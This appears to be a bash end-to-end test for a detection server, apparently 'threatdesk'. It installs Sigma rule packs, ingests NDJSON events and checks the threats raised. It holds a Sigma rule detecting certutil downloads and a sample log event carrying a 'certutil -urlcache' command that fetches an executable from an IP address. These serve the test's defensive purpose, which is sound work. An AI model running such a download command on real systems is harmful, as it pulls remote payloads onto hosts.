#!/usr/bin/env bash
# Detection end to end, as an operator runs it: `serve --demo` loads the demo rules from the store;
# `rules install` adds a pack (SigmaHQ repository layout, as a folder and as a .zip) while the
# server runs and the server picks it up; `threatdesk ingest` sends NDJSON (plain and gzip) with a
# bad line in the middle; threats appear, the demo entity rule turns signals into one threat, and
# rule hit counts reach the store. With a second argument `corpus`, the SigmaHQ rule set from
# $THREATDESK_CORPUS/sigma is installed instead and one of its regression events raises a threat.
source "$(dirname "$0")/lib.sh"
MODE=${2:-tiny}

PORT=$(free_port)
BASE="http://127.0.0.1:$PORT"
"$TD_BIN" serve --listen "127.0.0.1:$PORT" --store "$STORE" --demo --threads 4 >"$WORK/out.log" 2>"$WORK/err.log" &
SERVER_PID=$!
for _ in $(seq 1 300); do
  curl -fsS "$BASE/healthz" >/dev/null 2>&1 && break
  kill -0 "$SERVER_PID" 2>/dev/null || { cat "$WORK/err.log" >&2; fail "server exited"; finish; }
  sleep 0.2
done
expect_match "demo rules in effect at start" "$(cat "$WORK/out.log")" "Rules: 4 Sigma rules, 1 entity rules"

token=$("$TD_BIN" token create --store "$STORE" --project "Corporate IT" --scopes ingest,read)
auth=(-H "Authorization: Bearer $token")

# Polls GET PATH until the python expression EXPR over its JSON (as j) is true.
wait_for() {
  local name=$1 path=$2 expr=$3
  for _ in $(seq 1 100); do
    if curl -fsS "${auth[@]}" "$BASE$path" | python3 -c "import json,sys; j=json.load(sys.stdin); sys.exit(0 if ($expr) else 1)" 2>/dev/null; then
      ok; return 0
    fi
    sleep 0.2
  done
  fail "$name: $(curl -sS "${auth[@]}" "$BASE$path" | head -c 600)"
}

if [[ "$MODE" == corpus ]]; then
  CORPUS=${THREATDESK_CORPUS:-$(dirname "$0")/../../../shared/corpus}
  if [[ ! -d "$CORPUS/sigma/rules" ]]; then echo "SKIP: no corpus at $CORPUS/sigma"; exit 77; fi
  out=$("$TD_BIN" rules install --store "$STORE" "$CORPUS/sigma")
  expect_match "load report printed" "$out" "rules"
  expect_match "managed rules stored" "$out" "Managed Rules: [0-9]{4} rules stored"
  wait_for "server reloads the managed rules" /api/v1/rules/status 'j["rules"] > 3000'
  info=$(find "$CORPUS/sigma/regression_data/rules/windows/process_creation" -name info.yml | sort | head -1)
  rule_id=$(sed -n 's/^ *- id: \(.*\)$/\1/p' "$info" | head -1)
  python3 -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))))' "$(dirname "$info")/$rule_id.json" >"$WORK/event.ndjson"
  "$TD_BIN" ingest --url "$BASE" --token "$token" "$WORK/event.ndjson" 2>"$WORK/ingest.log" || fail "ingest: $(cat "$WORK/ingest.log")"
  wait_for "regression event raises a threat of its rule" "/api/v1/threats?text=$rule_id" "any(t['rule_id'] == '$rule_id' for t in j['items'])"
  kill -TERM "$SERVER_PID"; wait "$SERVER_PID" && ok || fail "serve did not stop cleanly"; SERVER_PID=
  finish
  exit
fi

# A tiny pack in SigmaHQ's repository layout: rules/ holds the rules, tests/ is not a rule folder.
mkdir -p "$WORK/pack/rules/windows" "$WORK/pack/tests" "$WORK/pack/deprecated"
cat >"$WORK/pack/rules/windows/proc_creation_win_certutil_download.yml" <<'YAML'
title: Certutil Downloads a File (e2e)
id: e2e00000-0000-4000-8000-000000000001
status: test
level: high
tags: [attack.command_and_control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|all: ['urlcache', 'http']
  condition: selection
YAML
cat >"$WORK/pack/rules/windows/broken.yml" <<'YAML'
title: Broken (e2e)
id: e2e00000-0000-4000-8000-000000000002
logsource: {product: windows}
detection:
  selection:
    Image|nosuchmodifier: x
  condition: selection
YAML
cat >"$WORK/pack/deprecated/old.yml" <<'YAML'
title: Old rule (e2e)
id: e2e00000-0000-4000-8000-000000000003
status: deprecated
logsource: {product: windows}
detection:
  selection: {EventID: 1}
  condition: selection
YAML
echo 'not: a rule' >"$WORK/pack/tests/config.yml"

out=$("$TD_BIN" rules install --store "$STORE" "$WORK/pack")
expect_match "install reports the refused rule" "$out" "LOAD_ERR_UNKNOWN_MODIFIER"
expect_match "install summary" "$out" "Managed Rules: 2 rules stored \(1 disabled"
(cd "$WORK/pack" && python3 -m zipfile -c "$WORK/pack.zip" rules deprecated tests)
out=$("$TD_BIN" rules install --store "$STORE" --group "Zip Pack" "$WORK/pack.zip")
expect_match "zip install" "$out" "Zip Pack: 2 rules stored"
"$TD_BIN" rules disable --store "$STORE" --group "Zip Pack" >/dev/null && ok || fail "disable group"
expect_cli_error "custom rule with a bad line" rules add --store "$STORE" "$WORK/pack/rules/windows/broken.yml"
wait_for "server reloads after the CLI install" /api/v1/rules/status 'j["rules"] == 5'

# Events: a hit, a bad line, a miss, then three new services on one host (signals, 40 each).
ev() { python3 -c 'import json,sys; print(json.dumps({"Channel": sys.argv[1], "EventID": int(sys.argv[2]), "Computer": sys.argv[3], "Image": sys.argv[4], "CommandLine": sys.argv[5], "ServiceName": "svc"}))' "$@"; }
{
  ev Security 4688 WS-007 'C:\Windows\System32\certutil.exe' 'certutil -urlcache -f http://198.51.100.7/a.exe a.exe'
  echo '{"EventID": 4688, "Computer": '
  ev Security 4688 WS-007 'C:\Windows\System32\notepad.exe' 'notepad'
} >"$WORK/events.ndjson"
for i in 1 2 3; do ev System 7045 SRV-FILE09 '' ''; done | gzip >"$WORK/services.ndjson.gz"

"$TD_BIN" ingest --url "$BASE" --token "$token" "$WORK/events.ndjson" 2>"$WORK/ingest.log" || fail "ingest: $(cat "$WORK/ingest.log")"
summary=$(cat "$WORK/ingest.log")
expect_match "ingest summary counts" "$summary" "2 accepted, 1 rejected"
expect_match "ingest names the bad line" "$summary" "rejected line 2: "
"$TD_BIN" ingest --url "$BASE" --token "$token" --gzip "$WORK/services.ndjson.gz" 2>"$WORK/ingest2.log" || fail "gzip ingest: $(cat "$WORK/ingest2.log")"
expect_match "gzip ingest" "$(cat "$WORK/ingest2.log")" "3 accepted, 0 rejected"
expect_cli_error "ingest without a token" ingest --url "$BASE" "$WORK/events.ndjson"

wait_for "managed rule raised a threat" "/api/v1/threats?text=Certutil" \
  'j["total"] == 1 and j["items"][0]["host"] == "WS-007" and j["items"][0]["severity"] == "HIGH"'
wait_for "signals are kept as SIGNAL" "/api/v1/threats?kind=SIGNAL&text=SRV-FILE09" 'j["total"] >= 1'
wait_for "entity rule raised one threat from the signals" "/api/v1/threats?text=Collects" \
  'j["total"] == 1 and j["items"][0]["entity"]["value"] == "SRV-FILE09"'

# Hit counts are flushed to the store every couple of seconds.
for _ in $(seq 1 50); do
  listed=$("$TD_BIN" rules list --store "$STORE" --text Certutil)
  [[ "$listed" =~ yes[[:space:]]+high[[:space:]]+1[[:space:]] ]] && break
  sleep 0.2
done
expect_match "hit count in rules list" "$listed" "yes +high +1 +Certutil"

kill -TERM "$SERVER_PID"; wait "$SERVER_PID" && ok || fail "serve did not stop cleanly"; SERVER_PID=
finish
